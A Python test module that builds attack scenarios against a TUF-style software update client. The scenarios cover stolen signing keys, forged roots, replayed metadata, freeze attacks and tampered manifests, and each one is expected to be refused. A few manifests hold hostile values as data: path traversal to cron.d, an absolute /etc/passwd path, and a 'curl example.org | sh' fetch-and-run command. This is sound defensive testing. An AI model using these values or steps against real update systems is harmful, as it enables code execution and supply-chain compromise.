"""What somebody does with stolen keys, a hijacked control plane or the line; each returns the target it is about."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import timedelta

from core.artifacts import MANIFEST_BYTES_MAX, InvalidArtifact
from core.errors import PosternError
from edge.updates.tuf_client import CONFIG, TrustExpired, TrustRefused
from tests.tuf_repository import EVERYTHING, TufRepository
from tests.unit.edge.updates.world import EMPTY, EVIL, NEW, NODE, OLD, World, manifest

# --- the director's keys are stolen ---


def a_target_that_does_not_exist(world: World) -> str:
    world.blobs[EVIL] = manifest(EVIL)
    world.assign(EVIL)
    return EVIL


def other_content_under_a_known_name(world: World) -> str:
    world.blobs[OLD] = manifest(OLD, "evil.onnx")
    world.assign(OLD)
    return OLD


def the_same_hash_with_another_length(world: World) -> str:
    world.assign(OLD)
    world.director.targets.targets[OLD].length += 1
    world.director.publish(*EVERYTHING)
    return OLD


def a_target_for_another_node(world: World) -> str:
    world.assign(OLD, node="node-two")
    return OLD


def a_target_for_nobody(world: World) -> str:
    world.assign(OLD, site="St. Anna")
    return OLD


def a_target_for_a_list_of_nodes(world: World) -> str:
    world.assign(OLD)
    world.director.targets.targets[OLD].unrecognized_fields["custom"] = ["node", NODE]
    world.director.publish(*EVERYTHING)
    return OLD


def a_hash_of_another_kind_alone(world: World) -> str:
    world.assign(OLD)
    world.director.targets.targets[OLD].hashes = {"sha512": "0" * 128}
    world.director.publish(*EVERYTHING)
    return OLD


def a_version_that_was_withdrawn(world: World) -> str:
    del world.vendor.targets.targets[OLD]
    world.vendor.publish(*EVERYTHING)
    world.assign(OLD)
    return OLD


def a_root_of_the_directors_by_its_daily_keys(world: World) -> str:
    thief = world.director.copy()
    thief.signers["root"] = thief.signers["targets"]
    thief.rotate("timestamp")
    thief.publish("root", *EVERYTHING)
    world.served.repositories["director"] = thief
    return NEW


# --- the organisation's keys are stolen, some of them ---


def a_new_package_that_no_director_assigns(world: World) -> str:
    world.release(EVIL)
    return EVIL


def a_package_by_a_key_that_was_replaced(world: World) -> str:
    thief = world.vendor.signers["targets"]
    world.vendor.rotate("targets")
    world.vendor.publish("root")
    world.vendor.signers["targets"] = thief
    world.release(EVIL)
    world.assign(EVIL)
    return EVIL


def packages_by_the_keys_of_the_control_plane(world: World) -> str:
    world.vendor.signers["targets"] = world.vendor.signers["snapshot"]
    world.release(EVIL)
    world.assign(EVIL)
    return EVIL


def fewer_signatures_than_the_root_wants(world: World) -> str:
    world.vendor.add_key("targets")
    world.vendor.root.roles["targets"].threshold = 2
    world.vendor.publish("root")
    world.vendor.signers["targets"].popitem()
    world.release(EVIL)
    world.assign(EVIL)
    return EVIL


def no_signature_at_all(world: World) -> str:
    world.vendor.signers["targets"] = {}
    world.release(EVIL)
    world.assign(EVIL)
    return EVIL


def a_signed_manifest_that_leads_out_of_its_folder(world: World) -> str:
    world.release(EVIL, manifest(EVIL, "../../../etc/cron.d/evil"))
    world.assign(EVIL)
    return EVIL


def a_signed_manifest_with_an_absolute_path(world: World) -> str:
    world.release(EVIL, manifest(EVIL, "/etc/passwd"))
    world.assign(EVIL)
    return EVIL


def a_signed_manifest_that_asks_to_run_something(world: World) -> str:
    world.release(EVIL, manifest(EVIL, run="curl example.org | sh"))
    world.assign(EVIL)
    return EVIL


def a_signed_manifest_with_more_files_than_it_has_chunks_for(world: World) -> str:
    file = {"path": "big", "size": 2**40, "sha256": EMPTY, "chunks": []}
    world.release(EVIL, manifest(EVIL, files=[file]))
    world.assign(EVIL)
    return EVIL


def a_signed_manifest_without_end(world: World) -> str:
    world.release(EVIL, b"[" * (MANIFEST_BYTES_MAX + 1))
    world.assign(EVIL)
    return EVIL


def a_signed_manifest_that_is_no_manifest(world: World) -> str:
    world.release(EVIL, b"#!/bin/sh\n")
    world.assign(EVIL)
    return EVIL


def a_signed_manifest_of_another_package(world: World) -> str:
    world.release(EVIL, world.blobs[OLD])
    world.assign(EVIL)
    return EVIL


# --- the keys of the control plane are stolen, or all of it is hijacked ---


def a_vendor_of_its_own(world: World) -> str:
    world.served.repositories["vendor"] = TufRepository()
    world.release(EVIL)
    world.assign(EVIL)
    return EVIL


def a_root_by_keys_of_its_own(world: World) -> str:
    own = TufRepository()
    own.publish("root", *EVERYTHING)
    world.served.repositories["vendor"] = own
    world.release(EVIL)
    world.assign(EVIL)
    return EVIL


def a_root_by_the_keys_that_it_has(world: World) -> str:
    thief = world.vendor.copy()
    thief.signers["root"] = thief.signers["timestamp"]
    thief.rotate("targets")
    thief.publish("root")
    world.served.repositories["vendor"] = thief
    world.release(EVIL)
    world.assign(EVIL)
    return EVIL


def a_root_that_leaves_out_the_one_before(world: World) -> str:
    thief = world.vendor.copy()
    thief.rotate("targets")
    thief.root.version = 3
    thief.put("root", 3, thief.signed("root"))
    world.served.repositories["vendor"] = thief
    world.release(EVIL)
    world.assign(EVIL)
    return EVIL


def the_directors_files_as_the_vendors(world: World) -> str:
    world.served.repositories["vendor"] = world.director
    return NEW


def the_vendors_files_as_the_directors(world: World) -> str:
    world.served.repositories["director"] = world.vendor
    return NEW


def the_files_of_another_nodes_director(world: World) -> str:
    other = world.director.copy()
    other.targets.targets.clear()
    world.served.repositories["director"] = other
    world.assign(NEW, node="node-two")
    return NEW


def replayed(world: World, repository: str, *roles: str) -> str:
    """The first files again, after newer ones were seen."""
    thief = world.served.repositories[repository].copy()
    for role in roles:
        thief.put(role, 1, thief.published[role][1])
    world.served.repositories[repository] = thief
    return NEW


def an_old_timestamp_of_the_vendors(world: World) -> str:
    return replayed(world, "vendor", "timestamp")


def all_old_files_of_the_vendors(world: World) -> str:
    return replayed(world, "vendor", *EVERYTHING)


def all_old_files_of_the_directors(world: World) -> str:
    return replayed(world, "director", *EVERYTHING)


def an_old_list_under_new_signatures(world: World) -> str:
    thief = world.vendor.copy()
    thief.targets.version = 1
    thief.put("targets", 1, thief.published["targets"][1])
    thief.publish("snapshot", "timestamp")
    world.served.repositories["vendor"] = thief
    return NEW


def an_old_snapshot_under_a_new_timestamp(world: World) -> str:
    thief = world.vendor.copy()
    thief.snapshot.version = 1
    thief.put("snapshot", 1, thief.published["snapshot"][1])
    thief.publish("timestamp")
    world.served.repositories["vendor"] = thief
    return NEW


def a_list_that_no_snapshot_names(world: World) -> str:
    thief = world.vendor.copy()
    thief.add_target(EVIL, manifest(EVIL))
    version = thief.targets.version
    thief.targets.version += 1
    content = thief.signed("targets")
    thief.put("targets", version, content)
    thief.snapshot.meta["targets.json"].version = version + 1
    thief.published["targets"].pop(version + 1, None)
    thief.snapshot.version += 1
    thief.put("snapshot", thief.snapshot.version, thief.signed("snapshot"))
    thief.publish("timestamp")
    world.served.repositories["vendor"] = thief
    return NEW


def a_vendor_that_stands_still(world: World) -> str:
    world.turn(31)
    world.director.targets.expires += timedelta(days=60)
    return NEW


def a_director_that_stands_still(world: World) -> str:
    for payload in world.vendor.payloads.values():
        payload.expires += timedelta(days=60)
    world.vendor.publish("root", *EVERYTHING)
    world.turn(31)
    return NEW


# --- somebody is on the line ---


def another_manifest_in_its_place(world: World) -> str:
    world.blobs[NEW] = world.blobs[OLD]
    return NEW


def a_manifest_that_is_cut(world: World) -> str:
    world.blobs[NEW] = world.blobs[NEW][:-1]
    return NEW


def a_manifest_with_something_behind_it(world: World) -> str:
    world.blobs[NEW] += b"\n"
    return NEW


def a_list_without_end(world: World) -> str:
    return instead(world, "targets", b" " * (CONFIG.targets_max_length + 1))


def a_timestamp_without_end(world: World) -> str:
    return instead(world, "timestamp", b" " * (CONFIG.timestamp_max_length + 1))


def a_root_without_end(world: World) -> str:
    return instead(world, "root", b" " * (CONFIG.root_max_length + 1))


def nothing_in_a_file(world: World) -> str:
    return instead(world, "timestamp", b"")


def brackets_without_end(world: World) -> str:
    return instead(world, "timestamp", b"[" * CONFIG.timestamp_max_length)


def a_list_instead_of_an_object(world: World) -> str:
    return instead(world, "snapshot", b"[]")


def one_byte_changed(world: World) -> str:
    content = world.vendor.published["timestamp"][world.vendor.timestamp.version]
    document = json.loads(content)
    document["signed"]["version"] += 1
    return instead(world, "timestamp", json.dumps(document).encode())


def instead(world: World, role: str, content: bytes) -> str:
    """Other bytes where the next version of a role should be."""
    thief = world.vendor.copy()
    thief.publish(*EVERYTHING)
    version = thief.root.version + 1 if role == "root" else thief.payloads[role].version
    thief.put(role, version, content)
    world.served.repositories["vendor"] = thief
    return NEW


def files_that_are_not_given(world: World) -> str:
    thief = world.vendor.copy()
    thief.publish(*EVERYTHING)
    thief.published["snapshot"].clear()
    world.served.repositories["vendor"] = thief
    return NEW


def no_timestamp(world: World) -> str:
    thief = world.vendor.copy()
    del thief.newest["timestamp"]
    world.served.repositories["vendor"] = thief
    return NEW


REFUSED: tuple[Callable[[World], str], ...] = (
    a_target_that_does_not_exist,
    other_content_under_a_known_name,
    the_same_hash_with_another_length,
    a_target_for_another_node,
    a_target_for_nobody,
    a_target_for_a_list_of_nodes,
    a_hash_of_another_kind_alone,
    a_version_that_was_withdrawn,
    a_root_of_the_directors_by_its_daily_keys,
    a_new_package_that_no_director_assigns,
    a_package_by_a_key_that_was_replaced,
    packages_by_the_keys_of_the_control_plane,
    fewer_signatures_than_the_root_wants,
    no_signature_at_all,
    a_signed_manifest_of_another_package,
    a_vendor_of_its_own,
    a_root_by_keys_of_its_own,
    a_root_by_the_keys_that_it_has,
    a_root_that_leaves_out_the_one_before,
    the_directors_files_as_the_vendors,
    the_vendors_files_as_the_directors,
    the_files_of_another_nodes_director,
    an_old_timestamp_of_the_vendors,
    all_old_files_of_the_vendors,
    all_old_files_of_the_directors,
    an_old_list_under_new_signatures,
    an_old_snapshot_under_a_new_timestamp,
    a_list_that_no_snapshot_names,
    another_manifest_in_its_place,
    a_manifest_that_is_cut,
    a_manifest_with_something_behind_it,
    a_list_without_end,
    a_timestamp_without_end,
    a_root_without_end,
    nothing_in_a_file,
    brackets_without_end,
    a_list_instead_of_an_object,
    one_byte_changed,
    files_that_are_not_given,
    no_timestamp,
)
EXPIRED = (a_vendor_that_stands_still, a_director_that_stands_still)
MALFORMED = (
    a_signed_manifest_that_leads_out_of_its_folder,
    a_signed_manifest_with_an_absolute_path,
    a_signed_manifest_that_asks_to_run_something,
    a_signed_manifest_with_more_files_than_it_has_chunks_for,
    a_signed_manifest_without_end,
    a_signed_manifest_that_is_no_manifest,
)
ATTACKS: list[tuple[Callable[[World], str], type[PosternError]]] = [
    *((attack, TrustRefused) for attack in REFUSED),
    *((attack, TrustExpired) for attack in EXPIRED),
    *((attack, InvalidArtifact) for attack in MALFORMED),
]

# In these the organisation itself signed a newer root, which the node has seen rightly.
NEW_ROOTS = {
    a_package_by_a_key_that_was_replaced,
    fewer_signatures_than_the_root_wants,
    a_director_that_stands_still,
}
